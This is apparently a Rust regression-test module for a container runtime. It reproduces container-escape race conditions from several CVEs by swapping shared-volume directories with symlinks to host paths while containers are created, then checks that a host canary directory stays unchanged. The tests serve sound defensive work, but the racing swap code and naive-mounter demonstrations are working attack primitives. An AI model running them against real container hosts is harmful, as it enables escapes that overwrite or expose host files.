//! The attacks that were races: a process in another container exchanges a directory (or a device) of
//! a shared volume for a link, as fast as it can, while a runtime makes containers that use the volume.
//!
//! Whatever the runtime says, what lies outside stays as it was, to the time of change of its inodes, and
//! the container sees nothing of it. That each race can be won is shown first, by a mounter that does what
//! runtimes did: it looks at a path, and then uses the path.

use std::ffi::CString;
use std::fs;
use std::os::fd::AsRawFd;
use std::os::unix::ffi::OsStringExt;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt, symlink};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use nix::mount::{MntFlags, MsFlags, mount, umount2};
use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use serde_json::json;

use super::tests;
use crate::bundle::Bundle;
use crate::lab::Lab;
use crate::output::{End, Output};
use crate::sys;

tests! {
    cve_2021_30465_race_for_a_mount_source.seconds(LONG),
    cve_2024_45310_race_for_a_mount_point.seconds(LONG),
    cve_2019_18837_race_for_a_file_to_mount_on.seconds(LONG),
    cve_2019_19921_race_for_proc.seconds(LONG),
    cve_2019_19921_race_for_a_missing_proc.seconds(LONG),
    cve_2025_31133_race_for_the_null_device.seconds(LONG),
    cve_2025_52565_race_for_the_console.seconds(LONG),
    cve_2026_41579_race_for_dev.seconds(LONG),
}

pub const LONG: u64 = 3600;

/// How many containers a race makes: a few in passing, thousands where it is about races.
fn rounds() -> usize {
    let given = std::env::var("HUSK_SUITE_RACES").ok();
    given.and_then(|text| text.parse().ok()).unwrap_or(25)
}

/// Does something without end, until dropped, and counts how often it was done.
pub struct Racer {
    stop: Arc<AtomicBool>,
    done: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl Racer {
    fn new(work: impl Fn() -> bool + Send + 'static) -> Racer {
        let (stop, done) = (
            Arc::new(AtomicBool::new(false)),
            Arc::new(AtomicU64::new(0)),
        );
        let (stopped, counted) = (stop.clone(), done.clone());
        let thread = std::thread::spawn(move || {
            while !stopped.load(Ordering::Relaxed) {
                if work() {
                    counted.fetch_add(1, Ordering::Relaxed);
                }
            }
        });
        let thread = Some(thread);
        Racer { stop, done, thread }
    }

    /// Exchanges two names.
    pub fn swapper(one: PathBuf, other: PathBuf) -> Racer {
        let name = |path: PathBuf| CString::new(path.into_os_string().into_vec()).unwrap();
        let (one, other) = (name(one), name(other));
        // EBUSY while something is mounted on one of them in this mount namespace.
        Racer::new(move || sys::exchange(&one, &other).is_ok())
    }

    fn count(&self) -> u64 {
        self.done.load(Ordering::Relaxed)
    }
}

impl Drop for Racer {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// A directory of the host, and everything about it: whatever is made, removed, written or changed in
/// it leaves a time of change.
struct Canary {
    dir: PathBuf,
    before: Vec<String>,
}

impl Canary {
    fn new(lab: &Lab) -> Canary {
        let dir = lab.path("canary");
        fs::create_dir_all(dir.join("inner")).unwrap();
        fs::write(dir.join("file"), "canary").unwrap();
        fs::write(dir.join("inner/secret"), "secret").unwrap();
        let before = Self::look(&dir);
        Canary { dir, before }
    }

    fn look(dir: &Path) -> Vec<String> {
        let mut seen = Vec::new();
        let mut left = vec![dir.to_owned()];
        while let Some(path) = left.pop() {
            let meta = fs::symlink_metadata(&path).unwrap();
            let content = match meta.is_file() {
                true => fs::read_to_string(&path).unwrap(),
                false => String::new(),
            };
            let (name, mode, size) = (path.display(), meta.mode(), meta.size());
            let (mtime, ctime) = (meta.mtime_nsec(), meta.ctime_nsec());
            let (written, changed) = (meta.mtime(), meta.ctime());
            seen.push(format!(
                "{name} {mode:o} {size} {written}.{mtime:09} {changed}.{ctime:09} {content}"
            ));
            if meta.is_dir() {
                left.extend(fs::read_dir(&path).unwrap().map(|e| e.unwrap().path()));
            }
        }
        seen.sort();
        seen
    }

    fn is_untouched(&self) -> bool {
        Self::look(&self.dir) == self.before
    }

    #[track_caller]
    fn assert_untouched(&self, round: usize, output: &Output) {
        let now = Self::look(&self.dir);
        assert_eq!(now, self.before, "in round {round}: {output}");
    }

    /// After an attack that has worked.
    fn heal(&mut self, lab: &Lab) {
        let _ = fs::remove_dir_all(&self.dir);
        *self = Canary::new(lab);
    }
}

/// Shows that the race can be won: `attempt`, which does what runtimes did, tells whether it was.
#[track_caller]
fn assert_can_be_won(mut attempt: impl FnMut() -> bool) {
    let begin = Instant::now();
    let mut tries = 0u64;
    while !attempt() {
        tries += 1;
        let took = begin.elapsed();
        assert!(took < Duration::from_secs(60), "not won in {tries} tries");
    }
}

/// Makes containers, and looks after each; names must have been exchanged often enough to matter.
#[track_caller]
pub fn race(lab: &Lab, swap: &Racer, make: impl Fn() -> Bundle, judge: impl Fn(usize, &Output)) {
    let first = swap.count();
    let mut ended = std::collections::BTreeMap::new();
    for round in 0..rounds() {
        let bundle = make();
        let output = lab.run(&bundle);
        judge(round, &output);
        *ended.entry(format!("{:?}", output.end)).or_insert(0) += 1;
        fs::remove_dir_all(&bundle.dir).unwrap();
    }
    let swaps = swap.count() - first;
    println!("{} rounds, {swaps} exchanges, {ended:?}", rounds());
    assert!(swaps > 10 * rounds() as u64, "{swaps} exchanges");
}

/// Does it in whichever of the two names is the directory, and stays one: by its descriptor.
fn in_the_directory(names: [PathBuf; 2], work: impl Fn(&Path)) {
    for name in names {
        let mut options = fs::OpenOptions::new();
        let flags = libc::O_DIRECTORY | libc::O_NOFOLLOW;
        if let Ok(directory) = options.read(true).custom_flags(flags).open(name) {
            work(Path::new(&format!(
                "/proc/self/fd/{}",
                directory.as_raw_fd()
            )));
        }
    }
}

fn is_link(path: &Path) -> bool {
    fs::symlink_metadata(path).is_ok_and(|meta| meta.is_symlink())
}

/// Mounts, and says whether it is anywhere but where it should be: below `place`.
fn mounted_elsewhere(place: &Path) -> bool {
    let text = fs::read_to_string("/proc/self/mountinfo").unwrap();
    let line = text.lines().find(|line| line.contains(" - tmpfs race "));
    let at = line
        .and_then(|line| line.split(' ').nth(4))
        .unwrap_or_default();
    !Path::new(at).starts_with(place)
}

/// Whatever is mounted as `race` goes.
fn unmount_race() {
    let text = fs::read_to_string("/proc/self/mountinfo").unwrap();
    for line in text.lines().filter(|line| line.contains(" - tmpfs race ")) {
        let at = line.split(' ').nth(4).unwrap_or_default();
        let _ = umount2(at, MntFlags::MNT_DETACH);
    }
}

/// The volume holds `there`, a directory, and `away`, a link to the host's directory that the source of
/// a later mount is in. Whoever mounts at `there` by its path mounts over that, and the later source is what
/// the attacker says.
fn cve_2021_30465_race_for_a_mount_source(lab: &Lab) {
    let canary = Canary::new(lab);
    let host = lab.path("host");
    fs::create_dir_all(host.join("source")).unwrap();
    fs::write(host.join("source/name"), "legitimate").unwrap();
    let volume = lab.path("volume");
    fs::create_dir_all(volume.join("there")).unwrap();
    symlink(&host, volume.join("away")).unwrap();
    // What is mounted at `there`: where it lands, its `source` is the canary.
    let trap = lab.path("trap");
    fs::create_dir(&trap).unwrap();
    symlink(canary.dir.join("inner"), trap.join("source")).unwrap();
    let swapper = Racer::swapper(volume.join("there"), volume.join("away"));
    assert_can_be_won(|| {
        let target = volume.join("there");
        if is_link(&target) {
            return false;
        }
        let (tmpfs, flags) = (Some("tmpfs"), MsFlags::empty());
        let done = mount(Some("race"), &target, tmpfs, flags, None::<&str>);
        let won = done.is_ok() && mounted_elsewhere(&volume);
        unmount_race();
        won
    });
    let bundle = || {
        lab.bundle()
            .dir("vol")
            .dir("out")
            .bind(&volume, "/vol", &["rbind"])
            .bind(&trap, "/vol/there", &["rbind"])
            .bind(host.join("source"), "/out", &["rbind"])
            .payload("ls /out -- ls /vol")
    };
    race(lab, &swapper, bundle, |round, output| {
        let seen = format!("{}{}", output.stdout, output.stderr);
        assert!(
            !output.stdout.contains("secret"),
            "in round {round}: {seen}"
        );
        if output.end == End::Code(0) {
            assert_eq!(output.lines()[0], json!(["name"]), "in round {round}");
        }
        canary.assert_untouched(round, output);
    });
}

/// Mount points that are missing, below a directory that is now a link to the host's.
fn cve_2024_45310_race_for_a_mount_point(lab: &Lab) {
    let mut canary = Canary::new(lab);
    let (volume, swapper) = volume_with_a_way_out(lab, &canary.dir);
    let path = volume.join("there/new/er");
    assert_can_be_won(|| {
        if is_link(&volume.join("there")) {
            return false;
        }
        let _ = fs::create_dir_all(&path);
        let _ = fs::remove_dir_all(volume.join("there/new"));
        !canary.is_untouched()
    });
    drop(swapper);
    canary.heal(lab);
    let (volume, swapper) = volume_with_a_way_out(lab, &canary.dir);
    let bundle = || {
        lab.bundle()
            .dir("vol")
            .bind(&volume, "/vol", &["rbind"])
            .mount(
                json!({ "destination": "/vol/there/new/er", "type": "tmpfs", "source": "tmpfs" }),
            )
            .bind("/etc", "/vol/there/dir", &["bind"])
            .payload("exit 0")
    };
    race(lab, &swapper, bundle, |round, output| {
        canary.assert_untouched(round, output);
        in_the_directory([volume.join("there"), volume.join("away")], |there| {
            for name in ["new/er", "new", "dir"] {
                let _ = fs::remove_dir(there.join(name));
            }
        });
    });
}

/// The same for a file, which runtimes made by opening it.
fn cve_2019_18837_race_for_a_file_to_mount_on(lab: &Lab) {
    let mut canary = Canary::new(lab);
    let (volume, swapper) = volume_with_a_way_out(lab, &canary.dir);
    assert_can_be_won(|| {
        if is_link(&volume.join("there")) {
            return false;
        }
        let _ = fs::File::create(volume.join("there/file"));
        !canary.is_untouched()
    });
    drop(swapper);
    canary.heal(lab);
    let (volume, swapper) = volume_with_a_way_out(lab, &canary.dir);
    let bundle = || {
        lab.bundle()
            .dir("vol")
            .bind(&volume, "/vol", &["rbind"])
            .bind("/etc/hostname", "/vol/there/file", &["bind"])
            .bind("/etc/hostname", "/vol/there/new", &["bind"])
            .payload("exit 0")
    };
    race(lab, &swapper, bundle, |round, output| {
        canary.assert_untouched(round, output);
        in_the_directory([volume.join("there"), volume.join("away")], |there| {
            for name in ["file", "new"] {
                let _ = fs::remove_file(there.join(name));
            }
        });
    });
}

/// A volume with `there`, a directory, and `away`, a link to `target`, that change places.
fn volume_with_a_way_out(lab: &Lab, target: &Path) -> (PathBuf, Racer) {
    let volume = lab.path("volume");
    fs::create_dir_all(volume.join("there")).unwrap();
    symlink(target, volume.join("away")).unwrap();
    let swapper = Racer::swapper(volume.join("there"), volume.join("away"));
    (volume, swapper)
}

/// Two containers on one root filesystem: its /proc is a directory or a link to a volume, where the
/// attacker has files of the names that a runtime writes to. And CVE-2023-27561, CVE-2025-52881.
fn cve_2019_19921_race_for_proc(lab: &Lab) {
    let root = lab.path("shared-root");
    for name in ["bin", "dev", "proc", "sys", "tmp", "vol/fake/sys/kernel"] {
        fs::create_dir_all(root.join(name)).unwrap();
    }
    fs::hard_link(lab.host_payload(), root.join("bin/payload")).unwrap();
    fs::write(root.join("vol/fake/sys/kernel/domainname"), "fake").unwrap();
    symlink("vol/fake", root.join("link")).unwrap();
    let swapper = Racer::swapper(root.join("proc"), root.join("link"));
    assert_can_be_won(|| {
        let target = root.join("proc");
        if is_link(&target) {
            return false;
        }
        let (tmpfs, flags) = (Some("tmpfs"), MsFlags::empty());
        let done = mount(Some("race"), &target, tmpfs, flags, None::<&str>);
        // The exchange carries a mount along: it lies on the directory, under either name.
        let won = done.is_ok() && mounted_at_end_of(&root.join("vol/fake"));
        unmount_race();
        won
    });
    let bundle = || {
        lab.bundle()
            .set("/root/path", root.to_str().unwrap())
            .writable()
            .only_mounts(&["/proc", "/dev"])
            .set("/linux/sysctl", json!({ "kernel.domainname": "raced" }))
            .set("/linux/maskedPaths", json!(["/proc/version"]))
            .payload("facts -- ls /vol/fake -- cat /vol/fake/sys/kernel/domainname")
    };
    race(lab, &swapper, bundle, |round, output| {
        if output.end == End::Code(0) {
            let lines = output.lines();
            // No procfs lies there, and what was written went to the kernel.
            assert_eq!(lines[1], json!(["sys"]), "in round {round}");
            assert_eq!(lines[2], json!("fake"), "in round {round}");
            assert_eq!(lines[0]["domainname"], "raced", "in round {round}");
        }
    });
    drop(swapper);
    let fake = fs::read_to_string(root.join("vol/fake/sys/kernel/domainname")).unwrap();
    assert_eq!(fake, "fake");
}

/// The same where nothing is at /proc: between the look and the making of it there may be a link.
fn cve_2019_19921_race_for_a_missing_proc(lab: &Lab) {
    let root = lab.path("shared-root");
    for name in ["bin", "dev", "sys", "tmp", "vol/fake"] {
        fs::create_dir_all(root.join(name)).unwrap();
    }
    fs::hard_link(lab.host_payload(), root.join("bin/payload")).unwrap();
    let proc = root.join("proc");
    let linker = Racer::new(move || {
        let _ = symlink("vol/fake", &proc);
        let _ = fs::remove_file(&proc);
        // What a runtime has made there.
        let _ = fs::remove_dir(&proc);
        true
    });
    let fake = root.join("vol/fake");
    assert_can_be_won(|| {
        let target = root.join("proc");
        if fs::symlink_metadata(&target).is_ok() {
            return false;
        }
        let _ = fs::create_dir_all(&target);
        let (tmpfs, flags) = (Some("tmpfs"), MsFlags::empty());
        let done = mount(Some("race"), &target, tmpfs, flags, None::<&str>);
        let won = done.is_ok() && mounted_at_end_of(&fake);
        unmount_race();
        won
    });
    let bundle = || {
        lab.bundle()
            .set("/root/path", root.to_str().unwrap())
            .writable()
            .only_mounts(&["/proc", "/dev"])
            .set("/linux/maskedPaths", json!([]))
            .set("/linux/readonlyPaths", json!([]))
            .payload("ls /vol/fake")
    };
    race(lab, &linker, bundle, |round, output| {
        if output.end == End::Code(0) {
            assert_eq!(output.line(), json!([]), "in round {round}");
        }
    });
}

fn mounted_at_end_of(path: &Path) -> bool {
    let text = fs::read_to_string("/proc/self/mountinfo").unwrap();
    let line = text.lines().find(|line| line.contains(" - tmpfs race "));
    line.and_then(|line| line.split(' ').nth(4)) == path.to_str()
}

/// /dev is a shared volume; its null is the null device, or a link to a file that masking would then
/// show, or make writable.
fn cve_2025_31133_race_for_the_null_device(lab: &Lab) {
    let canary = Canary::new(lab);
    let dev = lab.path("dev");
    fs::create_dir(&dev).unwrap();
    let mode = Mode::from_bits_truncate(0o666);
    mknod(&dev.join("null"), SFlag::S_IFCHR, mode, makedev(1, 3)).unwrap();
    // As the container would find it, and as the host does.
    symlink("/etc/other", dev.join("other")).unwrap();
    let swapper = Racer::swapper(dev.join("null"), dev.join("other"));
    let rootfs = lab.path("naive");
    fs::create_dir_all(rootfs.join("etc")).unwrap();
    fs::write(rootfs.join("etc/secret"), "hidden").unwrap();
    let naive = Naive {
        dev: &dev,
        victim: &canary.dir.join("file"),
        rootfs: &rootfs,
    };
    naive.show();
    let bundle = || {
        lab.bundle()
            .file("etc/secret", "hidden")
            .file("etc/other", "other")
            .only_mounts(&["/proc"])
            .bind(&dev, "/dev", &["bind"])
            .set("/linux/maskedPaths", json!(["/etc/secret"]))
            .payload("cat /etc/secret -- write /etc/secret overwritten -- cat /etc/other")
    };
    race(lab, &swapper, bundle, |round, output| {
        if output.end == End::Code(0) {
            let lines = output.lines();
            assert_eq!(lines[0], json!(""), "in round {round}: {output}");
            assert_eq!(lines[2], json!("other"), "in round {round}: {output}");
        }
        canary.assert_untouched(round, output);
    });
}

/// Masks as runtimes did: looks at the device by its path, and binds by its path.
struct Naive<'a> {
    dev: &'a Path,
    victim: &'a Path,
    rootfs: &'a Path,
}

impl Naive<'_> {
    #[track_caller]
    fn show(&self) {
        // Here the link must lead to something of the host.
        let other = self.dev.join("naive-other");
        symlink(self.victim, &other).unwrap();
        let null = self.dev.join("naive-null");
        let mode = Mode::from_bits_truncate(0o666);
        mknod(&null, SFlag::S_IFCHR, mode, makedev(1, 3)).unwrap();
        let swapper = Racer::swapper(null.clone(), other.clone());
        let secret = self.rootfs.join("etc/secret");
        assert_can_be_won(|| {
            if is_link(&null) {
                return false;
            }
            let bind = MsFlags::MS_BIND;
            let done = mount(Some(&null), &secret, None::<&str>, bind, None::<&str>);
            let won = done.is_ok() && fs::read_to_string(&secret).unwrap() == "canary";
            let _ = umount2(&secret, MntFlags::MNT_DETACH);
            won
        });
        drop(swapper);
        fs::remove_file(other).unwrap();
        fs::remove_file(null).unwrap();
    }
}

/// /dev/console is made, and a terminal mounted there: by its path that truncated what a link led to.
fn cve_2025_52565_race_for_the_console(lab: &Lab) {
    let mut canary = Canary::new(lab);
    let dev = lab.path("dev");
    for name in ["pts", "shm", "mqueue"] {
        fs::create_dir_all(dev.join(name)).unwrap();
    }
    fs::write(dev.join("console"), "").unwrap();
    symlink(canary.dir.join("file"), dev.join("other")).unwrap();
    let swapper = Racer::swapper(dev.join("console"), dev.join("other"));
    assert_can_be_won(|| {
        if is_link(&dev.join("console")) {
            return false;
        }
        let _ = fs::File::create(dev.join("console"));
        !canary.is_untouched()
    });
    drop(swapper);
    canary.heal(lab);
    fs::remove_dir_all(&dev).unwrap();
    for name in ["pts", "shm", "mqueue"] {
        fs::create_dir_all(dev.join(name)).unwrap();
    }
    fs::write(dev.join("console"), "").unwrap();
    symlink(canary.dir.join("file"), dev.join("other")).unwrap();
    let swapper = Racer::swapper(dev.join("console"), dev.join("other"));
    for round in 0..rounds() {
        let bundle = lab
            .bundle()
            .only_mounts(&["/proc"])
            .bind(&dev, "/dev", &["rbind"])
            .mount(
                json!({ "destination": "/dev/pts", "type": "devpts", "source": "devpts",
                           "options": ["newinstance", "ptmxmode=0666"] }),
            )
            .set("/process/terminal", true)
            .payload("exit 0");
        let pty = crate::pty::Pty::new(24, 80);
        let output = pty.spawn(lab.run_with(&bundle, &[])).wait();
        canary.assert_untouched(round, &output);
        fs::remove_dir_all(&bundle.dir).unwrap();
    }
    assert!(swapper.count() > 10 * rounds() as u64);
}

/// A shared root filesystem whose /dev is a directory or a link to the host's: devices, links and
/// mount points are made in it. And CVE-2026-47766.
fn cve_2026_41579_race_for_dev(lab: &Lab) {
    let mut canary = Canary::new(lab);
    let prepare = |canary: &Canary| {
        let root = lab.path("shared-root");
        for name in ["bin", "dev", "proc", "sys", "tmp"] {
            fs::create_dir_all(root.join(name)).unwrap();
        }
        fs::hard_link(lab.host_payload(), root.join("bin/payload")).unwrap();
        symlink(&canary.dir, root.join("link")).unwrap();
        let swapper = Racer::swapper(root.join("dev"), root.join("link"));
        (root, swapper)
    };
    let (root, swapper) = prepare(&canary);
    assert_can_be_won(|| {
        if is_link(&root.join("dev")) {
            return false;
        }
        let _ = symlink("pts/ptmx", root.join("dev/ptmx"));
        let _ = fs::remove_file(root.join("dev/ptmx"));
        !canary.is_untouched()
    });
    drop(swapper);
    canary.heal(lab);
    let (root, swapper) = prepare(&canary);
    let bundle = || {
        lab.bundle()
            .set("/root/path", root.to_str().unwrap())
            .writable()
            .only_mounts(&["/proc"])
            .payload("exit 0")
    };
    race(lab, &swapper, bundle, |round, output| {
        canary.assert_untouched(round, output);
        in_the_directory([root.join("dev"), root.join("link")], |dev| {
            for entry in fs::read_dir(dev).into_iter().flatten().flatten() {
                let _ = fs::remove_file(entry.path());
                let _ = fs::remove_dir(entry.path());
            }
        });
    });
}
